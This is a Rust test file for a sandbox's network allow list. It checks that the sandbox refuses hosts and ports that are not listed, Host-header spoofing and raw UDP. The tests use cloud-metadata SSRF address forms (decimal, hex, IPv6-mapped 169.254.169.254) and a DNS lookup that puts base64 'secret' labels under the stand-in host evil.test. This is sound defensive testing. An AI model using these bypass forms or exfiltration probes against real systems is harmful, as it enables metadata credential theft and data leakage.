//! The network of a sandbox, by the built binary: what `--allow` lets out, and that nothing else does.
//!
//! No test needs the Internet: each asks for what must be refused, or looks at the way there. That
//! allowed hosts are reached is shown by `crates/hub/tests/egress`, with a small Internet of its own.

use std::process::{Command, Output};

use sandshell_testkit::{UnprivilegedUser, find_binary};

use crate::calls::skipped;

/// Asks by curl, without its own chatter; the code and what the proxy said of a refusal. And looks for a name that
/// there is: a machine that stands still can do so for longer than the relay waits for the hub.
const ASK: &str = r#"
ask() {
    curl --silent --include --max-time 120 "$@" > /tmp/answer 2> /tmp/errors
    echo "$? $(grep -i x-sandshell-refused /tmp/answer | tr -d '\r')"
}
found() {
    for _ in 1 2 3 4 5; do getent "$@" && return; sleep 1; done
}
"#;

struct Network {
    allow: Vec<&'static str>,
    user: Option<UnprivilegedUser>,
    home: tempfile::TempDir,
}

impl Network {
    fn new(allow: &[&'static str]) -> Self {
        Self {
            allow: allow.to_vec(),
            user: None,
            home: tempfile::tempdir().unwrap(),
        }
    }

    fn made_by(mut self, user: UnprivilegedUser) -> Self {
        user.own(self.home.path());
        self.user = Some(user);
        self
    }

    fn output(&self, script: &str) -> Output {
        let mut command = match self.user {
            None => Command::new(find_binary()),
            Some(UnprivilegedUser { uid, gid }) => {
                let mut command = Command::new("setpriv");
                command
                    .arg(format!("--reuid={uid}"))
                    .arg(format!("--regid={gid}"))
                    .arg("--clear-groups")
                    .arg(find_binary());
                command
            }
        };
        command.arg("run");
        for host in &self.allow {
            command.args(["--allow", host]);
        }
        command
            .args(["--", "bash", "-c", &format!("{ASK}{script}")])
            .env("TMPDIR", self.home.path())
            .env_remove("XDG_RUNTIME_DIR")
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
    }

    /// What a script printed, and what was said beside it.
    fn run(&self, script: &str) -> (String, String) {
        let output = self.output(script);
        let text = |bytes| String::from_utf8(bytes).unwrap();
        (text(output.stdout), text(output.stderr))
    }
}

/// The same as root and as an ordinary user.
fn at_each_level(test: impl Fn(&dyn Fn(&[&'static str]) -> Network)) {
    test(&|allow| Network::new(allow));
    match UnprivilegedUser::get() {
        Some(user) => test(&|allow| Network::new(allow).made_by(user)),
        None => skipped("this is an ordinary user already: no other level to try"),
    }
}

#[test]
fn without_a_list_there_is_nothing() {
    at_each_level(|network| {
        let (said, _) = network(&[]).run(
            r"env | grep -ci proxy
               ask http://127.0.0.1:4021/; ask http://example.com/; ask http://1.1.1.1/; ask http://169.254.169.254/
               getent hosts example.com || echo no name",
        );
        assert_eq!(said, "0\n7 \n6 \n7 \n7 \nno name\n");
    });
}

#[test]
fn hosts_off_the_list_are_refused_and_said() {
    at_each_level(|network| {
        let (said, beside) = network(&["ok.test", "*.ok.example"]).run(
            r#"echo "$HTTPS_PROXY $no_proxy"
               ask http://evil.test/; ask https://evil.test/; ask http://ok.test:25/
               ask http://169.254.169.254/; ask http://2852039166/; ask http://0xa9fea9fe/
               ask 'http://[::ffff:169.254.169.254]/'; ask 'http://[fd00:ec2::254]/'
               ask -H 'Host: evil.test' http://ok.test/; ask -p http://ok.test:22/"#,
        );
        let expected = "http://127.0.0.1:4021 localhost,127.0.0.1,::1\n\
            0 x-sandshell-refused: host_not_allowed\n56 x-sandshell-refused: host_not_allowed\n\
            0 x-sandshell-refused: port_not_allowed\n0 x-sandshell-refused: address_not_allowed\n";
        assert!(said.starts_with(expected), "{said}\n{beside}");
        let rest: Vec<&str> = said[expected.len()..].lines().collect();
        assert_eq!(rest.len(), 6, "{said}");
        // curl itself reads odd forms of addresses, some versions before they ask the proxy.
        for line in &rest[..4] {
            let known = ["address_not_allowed", "bad_name"];
            assert!(known.iter().any(|reason| line.ends_with(reason)), "{said}");
        }
        assert_eq!(rest[4], "0 x-sandshell-refused: host_mismatch");
        assert_eq!(rest[5], "56 x-sandshell-refused: port_not_allowed");
        for told in [
            "network: evil.test:80 refused: the host is not on the allow list; hint: add --allow evil.test:80",
            "network: ok.test:25 refused: the port is not on the allow list; hint: add --allow ok.test:25",
            "network: 169.254.169.254:80 refused: the address is not on the allow list",
        ] {
            assert!(beside.contains(told), "{told}\n{beside}");
        }
    });
}

/// Programs that know no proxy: allowed names have an address, and nothing else leads anywhere.
#[test]
fn round_the_proxy() {
    at_each_level(|network| {
        let (said, beside) = network(&["ok.test", "*.ok.example"]).run(
            r"unset ${!HTTP*} ${!http*} ${!ALL*} ${!all*}
               found hosts OK.test | cut -d' ' -f1
               found hosts a.b.ok.example | cut -d' ' -f1
               found ahostsv4 ok.test | grep -o '^[0-9.]*' | sort -u
               getent hosts evil.test || echo no name
               getent ahostsv4 evil.test || echo no name
               getent hosts $(printf 'c2VjcmV0%.0s' 1 2 3 4 5 6 7).evil.test || echo no name
               getent hosts ok.example || echo no name
               ask http://1.1.1.1/; ask http://169.254.169.254/; ask http://127.0.0.1/
               for port in 53 123 443; do
                   (echo x > /dev/udp/8.8.8.8/$port) 2>/dev/null && echo sent || echo unreachable
               done
               ask http://ok.test:8080/",
        );
        // 6 is "no such name", 7 "cannot connect".
        let expected = "127.83.0.1\n127.83.0.2\n127.83.0.1\nno name\nno name\nno name\nno name\n7 \n7 \n7 \n\
            unreachable\nunreachable\nunreachable\n7 \n";
        assert_eq!(said, expected, "{beside}");
        assert!(
            beside.contains("network: evil.test refused: the host is not on"),
            "{beside}"
        );
    });
}

/// More names than have an address at a time: each is found, and what was found last is listened for.
#[test]
fn names_without_end_are_found() {
    at_each_level(|network| {
        let (said, beside) = network(&["*.many.example"]).run(
            r#"python3 -c '
import socket
def address_of(name):
    for _ in range(9):
        try:
            return socket.gethostbyname(name)
        except OSError:
            pass
    return socket.gethostbyname(name)
found = [address_of(f"n{n}.many.example") for n in range(1000)]
print(len(set(found)), all(address.startswith("127.83.") for address in found))
for address in found[-200:]:
    socket.create_connection((address, 443)).close()
# Used all the time, it keeps its address; others come and go, and never to an address that was held.
first = address_of("first.many.example")
held = socket.create_connection((first, 443))
for n in range(400):
    assert address_of(f"m{n}.many.example") not in found
print(first == address_of("first.many.example"))
try:
    socket.create_connection((found[0], 443))
except ConnectionRefusedError:
    print("refused")
print(address_of("n0.many.example") not in found)
'"#,
        );
        assert_eq!(said, "1000 True\nTrue\nrefused\nTrue\n", "{beside}");
    });
}

#[test]
fn a_bad_list_is_refused_before_anything_is_made() {
    for (entry, hint) in [
        ("*", "full"),
        ("*.com", "*.example.com"),
        ("http://example.com/", "without scheme"),
        ("10.0.0.1", "never reached"),
        ("localhost", "never reached"),
        ("*.localhost:8080", "never reached"),
        ("0x7f.1", "192.0.2.1"),
        ("b\u{fc}cher.example", "xn--"),
    ] {
        let network = Network::new(&[entry]);
        let output = network.output("echo ran");
        let errors = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{entry}: {errors}");
        assert!(
            output.stdout.is_empty() && errors.contains(hint),
            "{entry}: {errors}"
        );
        let left = std::fs::read_dir(network.home.path()).unwrap().count();
        assert_eq!(left, 0, "{entry}");
    }
}
